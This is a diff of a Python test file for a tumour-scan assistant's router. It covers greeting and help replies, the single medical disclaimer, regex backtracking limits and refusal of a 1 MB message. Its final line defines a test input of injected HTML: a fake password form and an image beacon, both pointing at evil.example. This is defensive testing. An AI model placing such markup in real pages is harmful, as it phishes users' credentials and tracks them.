@@ -53,9 +53,15 @@ def test_the_router_maps_questions_to_tools(toolbox, with_slice, text, expected)
 
 
 def test_the_router_says_what_it_can_do_and_what_it_needs(toolbox, with_slice):
+    """Issue 39: a greeting is answered as one, with or without a slice; off-topic text says what the router can do."""
+    from tumor_ai.core import wording
+
     assert Router.plan(toolbox, Conversation(), "which model is surer?") == NEEDS_SLICE
-    assert Router.plan(toolbox, Conversation(), "hello there") == HELP
-    assert Router.plan(toolbox, with_slice, "tell me a joke") == HELP
+    assert Router.plan(toolbox, Conversation(), "hello there") == wording.greeting(False)
+    assert Router.plan(toolbox, with_slice, "hello there") == wording.greeting(True)
+    assert Router.plan(toolbox, Conversation(), "tell me a joke") == HELP
+    assert Router.plan(toolbox, with_slice, "tell me a joke") == wording.not_understood(True)
+    assert "Drop" not in wording.greeting(True) + wording.not_understood(True)  # the slice is there already
 
 
 @pytest.mark.parametrize(
@@ -75,14 +81,20 @@ def test_medical_advice_gets_one_sentence_and_no_tool(toolbox, with_slice, quest
 
 
 def test_answers_about_a_slice_come_from_the_tools_and_keep_the_disclaimer(toolbox, with_slice):
+    """Issue 39 changed the reply: one sentence that answers, the short disclaimer once; the tool box holds the rest."""
+    from tumor_ai import NOT_A_DIAGNOSIS
+
     answer = Router().answer(toolbox, with_slice, "compare the models")
     [(call, result)] = answer.calls
     assert call.name == "compare_models" and isinstance(result, ToolResult)
-    assert len(result.pictures) == 2 and "never use it to make clinical decisions" in answer.reply
+    assert len(result.pictures) == 2 and "never use it to make clinical decisions" in result.text
+    assert answer.reply.count(NOT_A_DIAGNOSIS) == 1 and "never use it to make clinical decisions" not in answer.reply
+    assert "All 2" not in answer.reply and "All 2" not in result.text
     pixels = read_image(with_slice.slice_path).pixels
     for name, predictor in toolbox.predictors.items():
         prediction = predictor.predict_one(pixels)[0]
-        assert f"{prediction.confidence:.1%}" in answer.reply, name  # the figure the model gave, not a made-up one
+        assert f"{prediction.confidence:.1%}" in result.text, name  # the figure the model gave, not a made-up one
+        assert f"{prediction.confidence:.0%}" in answer.reply, name  # and the reply's sentence says it too
 
 
 def test_figures_are_the_metadata_s_own(toolbox, monkeypatch):
@@ -97,8 +109,14 @@ def test_figures_are_the_metadata_s_own(toolbox, monkeypatch):
                 {"meningioma": ClassScores(precision=0.9, recall=0.8125, f1=0.85, support=16)},
             ),
         )
-    text = Router().answer(toolbox, Conversation(), "how good is the cnn on meningioma?").reply
-    assert "accuracy 87.5%" in text and "macro-F1 86.1%" in text and "recall 81.2% (of 16 slices)" in text
+    answer = Router().answer(toolbox, Conversation(), "how good is the cnn on meningioma?")
+    [(call, result)] = answer.calls
+    assert call.arguments == {"model": "cnn", "label": "meningioma"}
+    assert "accuracy 87.5%" in result.text and "macro-F1 86.1%" in result.text and "recall 81.2% (of 16 slices)" in result.text
+    assert (
+        answer.reply.startswith("The cnn model's recall on meningioma is 81.2%")
+        and "accuracy over all classes 87.5%" in answer.reply
+    )
 
 
 def test_the_chat_shows_each_tool_call_its_pictures_and_suggestions(toolbox, example_paths):
@@ -197,13 +215,21 @@ def test_medical_advice_never_reaches_the_language_model(toolbox, with_slice, sc
 
 
 def test_no_pattern_over_a_message_has_unbounded_repetition():
-    """Issue 41.1: ``.*`` between words backtracked polynomially on long text and held the interpreter."""
+    """Issue 41.1: ``.*`` between words backtracked polynomially on long text and held the interpreter.
+
+    Since issue 39 the patterns live in ``tumor_ai.core.intents`` (ADVICE, and WORD that splits a message)."""
     import re
 
     from tumor_ai.app import assistant
+    from tumor_ai.core import intents
 
-    patterns = {name: value.pattern for name, value in vars(assistant).items() if isinstance(value, re.Pattern)}
-    assert {"ADVICE", "GRAD_CAM", "COMPARE"} <= set(patterns)
+    patterns = {
+        name: value.pattern
+        for module in (assistant, intents)
+        for name, value in vars(module).items()
+        if isinstance(value, re.Pattern)
+    }
+    assert {"ADVICE", "WORD"} <= set(patterns)
     for name, pattern in patterns.items():
         assert not re.search(r"(?<!\\)[*+]|\{\d*,\}", pattern), f"{name} repeats without a bound: {pattern}"
 
@@ -219,15 +245,30 @@ class CappedSpy:
         assert len(text) <= self.limit, f"a pattern was matched against {len(text)} characters"
         return self.pattern.search(text)
 
+    def findall(self, text):
+        self.seen.append(len(text))
+        assert len(text) <= self.limit, f"a pattern was matched against {len(text)} characters"
+        return self.pattern.findall(text)
+
 
 def test_a_one_megabyte_message_is_refused_before_any_pattern_reads_it(toolbox, with_slice, scripted_server, monkeypatch):
     from tumor_ai.app import assistant
+    from tumor_ai.core import intents
     from tumor_ai.core.wording import message_too_long
 
     spies = {}
-    for name in ("ADVICE", "GRAD_CAM", "FIGURES", "EVIDENCE", "COMPARE", "BATCH", "HIDE"):
-        spies[name] = CappedSpy(getattr(assistant, name), assistant.MESSAGE_LIMIT)
-        monkeypatch.setattr(assistant, name, spies[name])
+    for name in ("ADVICE", "WORD"):  # every pattern the intent classifier reads a message with
+        spies[name] = CappedSpy(getattr(intents, name), assistant.MESSAGE_LIMIT)
+        monkeypatch.setattr(intents, name, spies[name])
+    seen = []
+    real_intent_of = assistant.intent_of
+
+    def capped_intent_of(text, *args):
+        seen.append(len(text))
+        assert len(text) <= assistant.MESSAGE_LIMIT, f"the classifier was handed {len(text)} characters"
+        return real_intent_of(text, *args)
+
+    monkeypatch.setattr(assistant, "intent_of", capped_intent_of)
     huge = "tumour " * 150_000  # ~1 MB of one repeated word, as the hostile trial sent
     refusal = message_too_long(len(huge.strip()), assistant.MESSAGE_LIMIT)
     history, _, conversation = respond(toolbox, Router(), {"text": huge}, [], with_slice)
@@ -241,6 +282,7 @@ def test_a_one_megabyte_message_is_refused_before_any_pattern_reads_it(toolbox, 
     near = ("which model is surer " * 200)[: assistant.MESSAGE_LIMIT]
     assert Router().answer(toolbox, with_slice, near).calls[0][0].name == "compare_models"
     assert max(size for spy in spies.values() for size in spy.seen) <= assistant.MESSAGE_LIMIT
+    assert seen and max(seen) <= assistant.MESSAGE_LIMIT
 
 
 FIELD = '<form action="https:evil.example"><input type=password name=q></form><img src="http://evil.example/p.png">'
